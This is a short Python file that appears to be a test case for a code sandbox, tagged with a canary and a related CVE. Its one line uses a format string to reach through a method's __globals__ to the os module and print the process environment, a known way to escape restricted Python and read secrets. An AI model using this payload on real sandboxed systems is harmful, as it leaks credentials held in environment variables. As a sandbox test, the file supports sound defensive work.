"""Read an attribute through a format string.

family: formats
canary: secret
stops: full, container
root: no
related: CVE-2023-41039
"""

import os


class Holder:
    def method(self):
        return os


print("{0.method.__globals__[os].environ}".format(Holder()))
